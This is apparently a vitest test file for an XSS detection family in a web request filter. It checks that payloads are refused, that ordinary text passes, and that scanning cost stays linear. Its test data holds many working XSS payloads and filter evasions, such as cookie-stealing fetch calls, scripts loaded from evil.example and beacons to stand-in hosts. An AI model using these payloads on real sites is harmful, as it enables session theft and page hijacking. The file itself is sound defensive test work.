import { describe, expect, it } from "@effect/vitest"
import type { Paranoia } from "../../../src/internal/detection/families/contract.js"
import { analyse, family } from "../../../src/internal/detection/families/html/index.js"
import { tokenizeHtml } from "../../../src/internal/detection/families/html/tokenizer.js"
import { cpuDoublingRatio } from "./doublingRatio.js"
import { expectVerdicts } from "./verdicts.js"

/** The anomaly score the family gives one already decoded value. */
const score = (value: string, paranoia: Paranoia = 1): number =>
  family.mayMatch(value) ? family.scan(value, { location: "query", paranoia }).reduce((sum, f) => sum + f.score, 0) : 0

const refused = (value: string, paranoia: Paranoia = 1) => score(value, paranoia) >= 5

describe("html family: tags that run script", () => {
  it.each([
    "<script>fetch('/x?c='+document.cookie)</script>",
    "<SCRIPT SRC=//evil.example/a.js></SCRIPT>",
    "hello <iframe src=//evil.example></iframe>",
    "<object data=//evil.example/x.swf>",
    "<embed src=x.swf>",
    "<base href=//evil.example/>",
    "<svg:script>alert(1)</svg:script>",
    "<x foo=\"%><script>alert(1)</script>\">"
  ])("%s", (value) => {
    expect(refused(value)).toBe(true)
  })
})

describe("html family: event handlers and script URLs", () => {
  it.each([
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onpageshow=print()>",
    "<x onclick=alert(1)>click",
    "<details open ontoggle=alert(1)>",
    "<img src=x onerror =\n alert(1)",
    "<x:template x:ontimer=\"alert(1)\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"  JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"&#106avascript:alert(1)\">x</a>",
    "<form action=vbscript:msgbox(1)><button>go",
    "<button formaction=javascript:alert(1)>x",
    "<iframe srcdoc=\"<b>hi</b>\">",
    "<a href=`javascript:alert(1)`>x</a>",
    "<p style=\"width:expression(alert(1))\">",
    "<div style=\"background:url( javascript:alert(1))\">",
    "<style>body{-moz-binding:url(//evil.example/x.xml#x)}</style>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=import href=//evil.example/x.html>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">"
  ])("%s", (value) => {
    expect(refused(value)).toBe(true)
  })
})

describe("html family: values that land in an attribute or a script", () => {
  it.each([
    "\" onfocus=alert(1) autofocus x=\"",
    "' onmouseover='alert(1)",
    "x\" onpointerenter=\"prompt(1)",
    " onerror=alert(1)>",
    "javascript:alert(document.domain)",
    "ja\tvascript:void(0)",
    "data:text/html,<script>alert(1)</script>",
    "';alert(1)//",
    "\"-prompt(1)-\"",
    "}confirm(1);{//",
    "self[\"al\"+\"ert\"](1)",
    "[].sort.call`${alert}1`",
    "top['document']['cookie']"
  ])("%s", (value) => {
    expect(refused(value)).toBe(true)
  })

  it("adds the bolder attribute and script breaks at level 2", () => {
    expect(refused("x\" style=\"color:red\" y=\"")).toBe(false)
    expect(refused("x\" style=\"color:red\" y=\"", 2)).toBe(true)
    expect(refused("\";doSomething(1);//")).toBe(false)
    expect(refused("\";doSomething(1);//", 2)).toBe(true)
    expect(refused("</script>")).toBe(false)
    expect(refused("</script><p>", 2)).toBe(true)
  })
})

describe("html family: evasions", () => {
  it.each([
    ["a handler named by grammar, not from a list", "x\" onfreshlyinventedevent=go() a=\""],
    ["a handler after a quote with no space", "'onpointerrawupdate='x"],
    ["a namespace prefix that is empty", "<:vmlframe src=//evil.example/x.vml>"],
    ["an Internet Explorer processing instruction", "<?import namespace=\"t\" implementation=\"#default#time2\">"],
    ["a style sheet hiding keywords in CSS escapes", "<style>@\\69mport '//evil.example/x.css';</style>"],
    ["a style attribute whose escapes close it and open a tag", "<p style=\"font-family:'\\22\\3e\\3csvg\\20onload\\3d\\61lert(1)\\3e'\">"],
    ["a link that pulls a document in, whatever its rel", "<link href=//evil.example/x.css>"],
    ["a script scheme spelt with entities the engine left", "vb&Tab;script&colon;msgbox(1)"],
    ["a sink hidden by comments", "document/*a*/./*b*/cookie"],
    ["UTF-7 markup", "+ADw-svg onload+AD0-alert(1)+AD4-"],
    ["markup in a 7-bit charset", "\u00bciframe src=//evil.example\u00be"],
    ["a global indexed by a string", "self['\\x61lert']"],
    ["a page property as the whole value", "document.cookie='a=b'"],
    ["a conditional comment", "<!--[if IE]>"],
    ["markup in a 7-bit charset after compatibility folding", "1\u20444script3\u20444alert(1)1\u20444/script3\u20444"],
    ["`<noscript>`, which parses two ways", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"]
  ])("%s", (_, value) => {
    expect(refused(value)).toBe(true)
  })
})

describe("html family: a dialog or evaluator reached without its name before `(`", () => {
  it.each([
    ["called through parentheses", "(prompt)(document.domain)"],
    ["called through parentheses by a template", "'-(confirm)`x`-'"],
    ["handed to an array method", "[0].forEach(alert)"],
    ["handed to a promise", "x\";Promise.resolve(9).then(prompt)//"],
    ["a global indexed by regular-expression sources", "parent[/con/.source+/firm/.source](2)"],
    ["a global indexed by a number spelt in another base", "self[17795081..toString(36)](3)"],
    ["a global indexed by a parenthesised number in another base", "x';window[(29999105).toString(36)](7)//"],
    ["a global indexed by quoted pieces, called by a template", "y=2;frames['pro'+\"mpt\"]`9`"],
    ["an evaluator handed to any callback", "codes.forEach(eval)"],
    ["a dialog handed to a literal array's method", "[\"a\",\"b\"].some(confirm)"],
    ["a dialog in parentheses after an operator", "'+(alert)(7)+'"]
  ])("%s", (_, value) => {
    expect(refused(value), value).toBe(true)
  })

  it.each([
    ["a severity in parentheses in prose", "the (alert) (3) notices stay"],
    ["a callback that logs", "promise.then(console.log)"],
    ["JSONP dispatch by a variable name", "window[callbackName](payload)"],
    ["prose about indirect eval", "use (0, eval)('this') for the global"],
    ["an array method with a named callback", "rows.map(render).filter(Boolean)"],
    ["a handler looked up by a variable and a suffix", "window[eventName + 'Handler'](evt)"],
    ["a setter looked up by a variable and a suffix", "self[field + 'Updated'](next)"],
    ["a name built from a method call", "top[label.toUpperCase()](x)"],
    ["a namespaced name joined at run time", "parent[pkg + '.' + method](opts)"],
    ["a question about dynamic dispatch", "Can I call window[moduleName + 'Setup']() from a string?"],
    ["an identifier that ends in a global's name", "desktop[k+2](y)"],
    ["a dialog shown on a promise's failure", "fetchRows().then(render).catch(alert)"],
    ["a dialog shown for each item of a program's list", "this.warnings.forEach(alert)"],
    ["a form label with the word in parentheses", "Enter a reminder (prompt)(optional)"],
    ["a capitalised label in parentheses", "Send a notice (Confirm)(required)"]
  ])("passes %s", (_, value) => {
    expect(refused(value), value).toBe(false)
  })
})

describe("html family: references no encoder writes", () => {
  /** The score of the value `raw` decodes to, as the engine hands both to the family. */
  const scoreRaw = (raw: string, decoded: string): number =>
    family.mayMatch(decoded) ? family.scan(decoded, { location: "query", paranoia: 1, raw }).reduce((sum, f) => sum + f.score, 0) : 0

  it.each([
    ["&#060;", "<"],
    ["&#x0003c", "<"],
    ["&#X03C;", "<"],
    ["&#x000003c;b&#x000003E;", "<b>"],
    ["&LT;", "<"],
    ["%26%23060%3B", "<"]
  ])("refuses `<` or `>` written as %s", (raw, decoded) => {
    expect(scoreRaw(raw, decoded)).toBeGreaterThanOrEqual(5)
  })

  it.each([
    ["&lt;", "<"],
    ["&#60;", "<"],
    ["&#x3C;", "<"],
    ["a &lt; b &amp;&amp; c &gt; d", "a < b && c > d"],
    // PHP and JSTL pad quotes: `&#039;`, `&#034;`
    ["O&#039;Brien said &#034;hi&#034;", "O'Brien said \"hi\""],
    ["AT&amp;T", "AT&T"]
  ])("passes what escapers write: %s", (raw, decoded) => {
    expect(scoreRaw(raw, decoded)).toBe(0)
  })
})

describe("html family: markup that restyles the page or builds a form, in a URL", () => {
  const at = (value: string, location: "query" | "path" | "cookie" | "body") =>
    family.scan(value, { location, paranoia: 1 }).reduce((sum, f) => sum + f.score, 0)

  it.each([
    "<body style=\"background:gray\">",
    "<div style=\"position:fixed;top:0;width:100%\">Session expired</div>",
    "<input name=\"username\" value=\"admin\" />",
    "<form action=/login method=post>",
    "</form>",
    "</style>",
    "</textarea><marquee>x</marquee>"
  ])("refuses %s in a query, a path or a cookie", (value) => {
    expect(at(value, "query")).toBeGreaterThanOrEqual(5)
    expect(at(value, "path")).toBeGreaterThanOrEqual(5)
    expect(at(value, "cookie")).toBeGreaterThanOrEqual(5)
  })

  it("passes the same markup in a body, where rich-text editors post it", () => {
    expect(at("<p style=\"color:red\">Hello</p><form-note>", "body")).toBe(0)
    expect(at("<input name=\"username\" value=\"admin\" />", "body")).toBe(0)
  })

  it.each([
    "<b>bold</b> and <i>italic</i>",
    "V1_OTHER_1\"><IMG CLASS=\"SIZE-FULL WP-IMAGE-2764",
    "a < b > c",
    "x<y and y>z",
    "<3 form letters",
    "pick from <set of values> or <select one>",
    "the <title> of the page"
  ])("passes formatting, images without a source and prose with angle brackets: %s", (value) => {
    expect(at(value, "query")).toBe(0)
  })
})

describe("html family: JavaScript that changes the page", () => {
  it.each([
    "document.getElementById('out').innerHTML='<b>pwned</b>'",
    "document.querySelector('h1').textContent='defaced'",
    "document.body.appendChild(document.createElement('iframe'))",
    "setTimeout(x, 10)",
    "new Function('return this')()",
    "window.atob('YWxlcnQoMSk=')",
    "confirm`1`",
    "{{constructor.constructor('fetch(1)')()}}",
    "{{ $on.constructor('x')() }}",
    "[].filter.constructor('return 1')()",
    "''.sub.constructor`x`"
  ])("%s", (value) => {
    expect(refused(value)).toBe(true)
  })

  it("lets prose that names a call pass", () => {
    expect(refused("use eval() carefully")).toBe(false)
    expect(refused("The document. Cookies are stored by the browser (see RFC 6265)")).toBe(false)
    expect(refused("print(report) prints the report")).toBe(false)
  })
})

describe("html family: what level 2 adds", () => {
  it.each([
    ["a link to anywhere", "<a href=\"/profile\">me</a>"],
    ["a comment closed early", "x -->"],
    ["an operator keyword after a quote, then an assignment", "\" in constructor.prototype.x="]
  ])("%s", (_, value) => {
    expect(refused(value)).toBe(false)
    expect(refused(value, 2)).toBe(true)
  })
})

describe("html family: text, markup and code that pass at level 1", () => {
  it.each([
    "a < b and c > d",
    "if (x<y && y>z) return",
    "I <3 this",
    "<b>bold</b>, <i>italic</i> and <p>a paragraph</p><br>",
    "<p>Hello <strong>world</strong>, see <a href=\"https://example.com\">our site</a>.</p>",
    "<img src=\"https://cdn.example.com/a.png\" alt=\"a cat\">",
    "John Smith <john@example.com>",
    "Use `<details>` and `<summary>` for disclosure widgets",
    "JavaScript: The Good Parts",
    "use eval() carefully",
    "the onload event fires when the page is ready",
    "online=true",
    "https://example.com/?onboarding=1&step=2",
    "he said \"hi\" -- then left",
    "rock 'n' roll",
    "It's 5' 10\" tall",
    "<table width=\"99%\" border=\"0\">",
    "{\"html\": \"<ul><li>one</li><li>two</li></ul>\"}",
    "for (let i = 0; i < arr.length; i++) { total += arr[i]; }",
    "\"Chromium\";v=\"124\", \"Google Chrome\";v=\"124\"",
    "data: 42 rows",
    "a <b> tag makes text bold",
    "x < y and y > z",
    "**bold** and _italic_ with a [link](https://example.com/a?b=c) and `code`",
    "Ann <ann@example.com>, Bob <bob@example.org>",
    "> quoted reply\n> second line",
    "debug=true; online=1; only=3",
    "VGhhbmtzIGZvciB0aGUgd29yawo/onafe=",
    "the session is online= yes",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order><id>7</id></order>",
    "a --> b --> c",
    "\u00bc cup of sugar and \u00be cup of flour",
    "Price +ADD-ON bundle",
    "<?xml version=\"1.0\"?><xml><item id=\"1\">a</item></xml>",
    "use this [\"a\", \"b\"] list",
    "Hello {{ user.name }}, your total is {{ format(total) }}",
    "the constructor (of the class) runs first",
    "See document.cookie for details",
    "{\"tags\":[\"a\",\"b\"],\"url\":\"https://example.com/?ref=feed\",\"n\":[]}",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0 Safari/537.36"
  ])("%s", (value) => {
    expect(refused(value)).toBe(false)
  })

  it("reads an `on...` name no browser fires as a JavaScript variable when camelCased or declared; a known event stays a handler", () => {
    expectVerdicts((value) => score(value), [
      "const onResult = ({ glob, input }) => {\n  console.log(glob, input)\n}",
      "var onnetlisten = require('on-net-listen')\nonnetlisten(function (addr) {})",
      "let onChangeHandler = (e) => setValue(e.target.value)",
      "props: { onSelectItem = noop }"
    ], [
      "\" onClick=alert(1) x=\"",
      "x\" var onerror=alert(1) y=\"",
      "' onfoo=alert(1) x='",
      " onPointerRawUpdate=confirm`1`",
      "const onload = location.hash.slice(1); onmouseover=eval(onload)"
    ])
  })

  it("rejects ordinary values before tokenizing", () => {
    for (const value of ["the quick brown fox", "12345", "f47ac10b-58cc-4372-a567-0e02b2c3d479", "Zoë Saldaña", "user+tag@example.com"]) {
      expect(family.mayMatch(value), value).toBe(false)
    }
  })
})

describe("html family: the tokenizer", () => {
  const tags = (value: string) => {
    const seen: Array<string> = []
    tokenizeHtml(value, "data", {
      tag: (tag) => seen.push(`${tag.name}[${tag.attributes.map((a) => `${a.name}=${a.value}`).join(",")}]`),
      endTag: () => undefined,
      attributeBreak: () => undefined
    })
    return seen
  }

  it("reads attributes quoted, unquoted and separated by slashes, as a browser does", () => {
    expect(tags("<img/src='a b'/alt=x onerror=\"y\">")).toEqual(["img[src=a b,alt=x,onerror=y]"])
  })

  it("keeps a tag that the value ends inside: the page supplies the `>`", () => {
    expect(tags("<svg onload=alert(1)")).toEqual(["svg[onload=alert(1)]"])
  })

  it("does not take `<` followed by a space or a digit for a tag", () => {
    expect(tags("a < b, 1 <2")).toEqual([])
  })

  it("reads markup inside comments, where conditional comments run it", () => {
    expect(tags("<!--[if IE]><script>x</script><![endif]-->")).toEqual(["script[]"])
  })
})

describe("html family: a filtered word cut across joined literals", () => {
  it.each([
    "location='jav'+'ascript:alert(1)'",
    "x='<scr'+'ipt>'+y",
    "document.write(\"<scr\" + \"ipt src=//e.vil></scr\" + \"ipt>\")",
    "top['al' + 'ert'](1)",
    "el.src = 'java' + 'script:void(0)'",
    "';w=window;w['docu'+'ment']['coo'+'kie'];//",
    "u='jav'+\n'ascript:void(0)'",
    "u='vbs'+\r\n'cript:run'",
    "x=\"a note longer than any piece of a cut word, with no closing quote at all 'ale'+'rt'"
  ])("is written to pass a filter: %s", (value) => {
    expect(refused(value), value).toBe(true)
  })

  it.each([
    "'Hello, ' + name + '!'",
    "\"foo\" + \"bar\" = \"foobar\"",
    "it's 'java' + 'script' really",
    "'Warning: ' + 'alert level ' + n",
    "msg = 'Critical ' + 'alert: ' + text",
    "I'll say ' + 'later', she wrote",
    "href = 'javascript' + ':' + code",
    "src = 'data:' + 'text/html' + ';charset=utf-8,' + body",
    "html = '<' + 'svg width=\"' + w + '\">'",
    "out += '<' + '/script>'"
  ])("passes literals that keep their words whole: %s", (value) => {
    expect(refused(value), value).toBe(false)
  })

  it("does not read a closing tag cut at its `<` inside document.write as a cut word", () => {
    const value = "document.write('<div id=\"ad\"></div><' + '/script>')"
    expect(family.scan(value, { location: "query", paranoia: 1 }).map((f) => f.ruleId)).not.toContain("html-112")
  })
})

describe("html family: a keyword glued to a global once whitespace is removed", () => {
  it.each([
    "return top[/al/.source+/ert/.source](1)",
    "void self[8680439..toString(30)](1)",
    "typeof window[/pro/.source+/mpt/.source](1)"
  ])("still starts a name: %s", (value) => {
    expect(refused(value), value).toBe(true)
  })

  it.each(["the desktop[1] (shown)", "stop[/a/.source+/b/.source](1) is a made-up call", "laptop[/x/.source+/y/.source](2) in a note"])(
    "leaves words that only end in a global's name: %s",
    (value) => {
      expect(refused(value), value).toBe(false)
    }
  )
})

describe("html family: one call of a browser API that acts on the visitor", () => {
  it.each([
    "top.navigator.vibrate(900)",
    "navigator.vibrate([200, 100, 200]);",
    "\";navigator.sendBeacon('//x.example', 1);//"
  ])("is what a probe injects: %s", (value) => {
    expect(refused(value), value).toBe(true)
  })

  it.each([
    "navigator.clipboard.writeText(text).then(() => done())",
    "navigator.serviceWorker.register('/sw.js')",
    "Call navigator.vibrate(300) to buzz the phone",
    "navigator.userAgent",
    "if (navigator.share) navigator.share(data)"
  ])("passes code that goes on and prose: %s", (value) => {
    expect(refused(value), value).toBe(false)
  })

  it.each([
    "navigator.clipboard.writeText('copied!')",
    "navigator.geolocation.getCurrentPosition(onFix, onError)",
    "navigator.mediaDevices.getUserMedia({ audio: true })",
    "navigator.share({ title: 'Docs', url: location.href })"
  ])("passes a documentation snippet of a permission-gated API: %s", (value) => {
    expect(refused(value), value).toBe(false)
  })
})

describe("html family: tags written with the quarters a 7-bit charset reads as brackets", () => {
  it.each(["\u00bcscript\u00bealert(1)\u00bc/script\u00be", "\u00bcimg src=x onerror=alert(1)\u00be"])(
    "is refused once the engine has folded the quarters: %s",
    (value) => {
      // the engine's decoding spells `¼` as `1/4` before the family reads it
      expect(refused(value.replace(/\u00bc/g, "1/4").replace(/\u00be/g, "3/4")), value).toBe(true)
    }
  )

  it.each(["add 1/4 cup of sugar and 3/4 tsp of salt", "1/4inch bolts and 3/4inch nuts", "1/4 of 3/4 is 3/16"])("passes quantities: %s", (value) => {
    expect(refused(value), value).toBe(false)
  })
})

describe("html family: JSFuck", () => {
  it.each([
    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]",
    "(+[![]]+[+(+!+[]+(!+[]+[])[!+[]+!+[]+!+[]]))",
    "[][\"filter\"][\"constructor\"](x)()",
    "x=[]['at'];y",
    "[] [ (! [] + [ ]) [ + [] ] + ( ! [] + [] ) [ ! + [] + ! + [] ] ]",
    "[][/**/(![]+[])[+[]]/**/+(![]+[])[!+[]+!+[]]]"
  ])("is code written to hide its calls: %s", (value) => {
    expect(refused(value), value).toBe(true)
  })

  it.each([
    "See the chart ![](https://example.com/chart.png) below",
    "![](a.png) ![](b.png)",
    "statusCodesToRetry?: number[][];",
    "console.log([][0], a);",
    "const grid: string[][] = [[], []]; if (!grid[0]) init()"
  ])("passes Markdown images and nested arrays: %s", (value) => {
    expect(refused(value), value).toBe(false)
  })
})

describe("html family: catalogue and cost", () => {
  it("documents every rule with a stable id, the xss category and a score", () => {
    const ids = family.rules.map((r) => r.id)
    expect(new Set(ids).size).toBe(ids.length)
    for (const rule of family.rules) {
      expect(rule.id).toMatch(/^html-\d{3}$/)
      expect(rule.category).toBe("xss")
    }
  })

  it("reads markup whose words are split by tags a filter strips as the markup left once they are gone", () => {
    expectVerdicts(
      (value) => score(value),
      [
        "I use <> and <b>bold</b> text",
        "a<b>c and List<String>x",
        "H<sub>2</sub>O and E=mc<sup>2</sup>",
        "pre<wbr>script and on<wbr>load",
        "un<i>believ</i>able <b>news</b>"
      ],
      [
        "<sc<>ript src=//cdn.example/x.js></sc<>ript>",
        "<img src=1 oner<b>ror=import('//203.0.113.5')>",
        "<a href=java<>script:void(fetch(1))>go</a>",
        "<ifr<i>ame src=javas<b>cript:top.x()>",
        "<svg on<>load=location=name>"
      ]
    )
  })

  it.each([
    ["unclosed tags", "<a"],
    ["unclosed attributes", "<a x=\""],
    ["handler-like attributes", "<a onx="],
    ["style tags", "<style>"],
    ["comments", "<!--"],
    ["quotes and brackets", "\"'><"],
    ["script URLs", "javascript:"],
    ["handler-like assignments", " onx="],
    ["template braces", "{{"],
    ["UTF-7 runs", "+ADw-"],
    ["calls", "alert("],
    ["tags glued between letters", "a<b>c<>"]
  ])("stays linear on repeated %s", (_, fragment) => {
    // work = characters the tokenizer examined in every context + the linear pattern passes
    const work = [64, 128, 256, 512].map((kb) => analyse(fragment.repeat(Math.ceil((kb * 1024) / fragment.length))).work)
    for (let i = 1; i < work.length; i++) expect((work[i] ?? 0) / (work[i - 1] ?? 1)).toBeLessThan(2.1)
    expect((work[3] ?? 0) / (512 * 1024)).toBeLessThan(32)
  })

  it.each([
    ["template expressions that never close", "{{constructor("],
    ["handler-like assignments", " onx="],
    ["strings indexing a global", "self[\""],
    ["globals indexed by pieces that never close", "top[a+"],
    ["globals indexed by a plus alone", "top[+"],
    ["sinks handed to calls", ".map(alert)"],
    ["joined literals", "'al'+"],
    ["JSFuck runs broken by a letter", "[]+!+[]+[]x"],
    ["quotes that never close", "'\"+"],
    ["UTF-7 runs", "+ADw-"],
    ["tags glued between letters", "<a o<>n"]
  ])("takes time linear in the value's length on repeated %s", (_, fragment) => {
    const of = (size: number) => fragment.repeat(Math.ceil(size / fragment.length)).slice(0, size)
    const scan = (value: string) => family.scan(value, { location: "body", paranoia: 2 })
    // quadratic work would show as 4; CPU time, so waiting for a core on a loaded machine is no cost
    expect(cpuDoublingRatio(scan, of(128 * 1024), of(256 * 1024))).toBeLessThan(3.5)
  })
})

describe("html family: an SVG or MathML island counts as closed only where a browser closes it", () => {
  it("counts an island whose `</svg>` or `</math>` sits in a comment or a CDATA section as still open", () => {
    expectVerdicts((value) => score(value), [], [
      "<svg><circle r=\"2\"/><!-- </svg> -->",
      "<svg><path d=\"M0 0\"/><![CDATA[ </svg> ]]>",
      "<math><mn>2</mn><!--</math>-->",
      "<svg><rect/><!-- unterminated </svg>"
    ])
  })

  it("counts an island whose `</svg>` sits in a doctype or a bogus comment (`<!x`, `</ `, `<?`) as still open", () => {
    expectVerdicts((value) => score(value), [], [
      "<svg><circle r=\"3\"/><!note </svg>",
      "<svg><line x2=\"4\"/></ </svg>",
      "<math><mn>1</mn><!doctype </math>",
      "<svg><g/><?pi </svg>"
    ])
  })

  it("counts an island whose end tag has no `>` as still open: the page's next tag completes it", () => {
    expectVerdicts((value) => score(value), [], ["<svg><circle r=\"1\"/></svg", "<math><mi>y</mi></math", "<svg><g></g></svg "])
  })

  it("passes a closed island with a comment or an empty comment beside it", () => {
    expectVerdicts(
      (value) => score(value),
      [
        "<svg viewBox=\"0 0 8 8\"><!-- star --><path d=\"M4 0 8 8H0z\"/></svg>",
        "<svg><!----><rect width=\"2\"/></svg> icon",
        "<math><mi>a</mi></math><!-- formula above -->",
        "<svg><!--></svg>",
        "<svg><!x><rect/></svg> drawn",
        "<svg><?pi?><rect/></svg> drawn"
      ],
      []
    )
  })
})

describe("html family: a word split by any tag a filter strips", () => {
  // PHP's `strip_tags` deletes tags with attributes, self-closing tags and comments as it deletes `<b>`
  it("reads a script tag, handler or script URL cut by a tag with attributes, a self-closing tag or a comment", () => {
    expectVerdicts((value) => score(value), [], [
      "<scri<i class=a>pt src=//cdn.example/k.js></scri<i class=a>pt>",
      "<s<wbr/>cript src=//cdn.example/k.js></s<wbr/>cript>",
      "<scr<br />ipt>fetch('//203.0.113.7')</script>",
      "<img src=x onl<!---->oad=import('//203.0.113.7')>",
      "<body on<u title=x>load=eval(name)>",
      "<a href=jav<hr/>ascript:fetch(2)>open</a>",
      "<a href=javascript<>:fetch(2)>open</a>",
      "<a href=javascript<!-- x -->:fetch(2)>open</a>",
      "<img src=y onerror<>=import('//203.0.113.7')>"
    ])
  })

  it("passes rich text whose tags with attributes, line breaks or comments touch words", () => {
    expectVerdicts(
      (value) => score(value),
      [
        "Read the <span class=\"hl\">manual</span>: it helps",
        "first line<br/>second line<br />third",
        "Price<!-- updated -->: 12 EUR",
        "Map<String, List<Integer>> and Optional<T>:value",
        "Java<sup>TM</sup>Script is a brand, see note<a id=\"n1\">1</a>"
      ],
      []
    )
  })
})
